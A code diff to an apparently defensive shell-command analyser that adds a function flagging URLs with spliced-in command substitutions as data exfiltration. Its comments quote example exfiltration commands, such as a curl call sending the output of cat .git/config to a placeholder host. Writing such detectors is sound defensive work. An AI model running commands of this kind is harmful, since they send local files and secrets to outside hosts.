@@ -62,13 +62,26 @@ export function sendsSubstitution(cmd: SimpleCommand): boolean {
   const options = ownEntry(DATA_OPTIONS, cmd.program);
   // A URL carries what is spliced into it as much as a body does: `curl "https://h/?q=$(cat .git/config)"`.
   if (options !== undefined)
-    return (
-      [...options, "--url"].some((o) => (w.options.get(o) ?? []).some((v) => SUBSTITUTION.test(v))) ||
-      w.positionals.some((v) => SUBSTITUTION.test(v) && !isLocalUrl(v.split(SUBSTITUTION)[0]!))
-    );
+    return [...options, "--url"].some((o) => (w.options.get(o) ?? []).some((v) => SUBSTITUTION.test(v)));
   if (!ITEM_CLIENTS.has(cmd.program)) return false;
   const start = METHOD.test(w.positionals[0] ?? "") ? 2 : 1;
   return w.positionals.slice(start).some((v) => SUBSTITUTION.test(v));
+}
+
+/**
+ * An address written with its host and a substitution spliced into it (`curl "https://h/?q=$(cat f)"`, `git clone
+ * "https://h/$(base64 < f)"`, docs/adr/0808): whatever program opens it sends that text to the host. The host, or
+ * null when no operand is one or the host is this machine.
+ */
+export function splicedUrlHost(cmd: SimpleCommand): string | null {
+  if (!cmd.dynamicArgs) return null;
+  for (const a of cmd.args) {
+    if (!SUBSTITUTION.test(a)) continue;
+    const literal = a.split(SUBSTITUTION)[0]!;
+    const host = /^[a-z][a-z0-9+.-]*:\/\/(?:[^@/?#]*@)?([^:/?#]+)[:/?#]/i.exec(literal)?.[1];
+    if (host !== undefined && !isLocalUrl(literal)) return host;
+  }
+  return null;
 }
 
 /** git subcommands that print the repository's content: history, changes, files, packs, stashes, notes. */
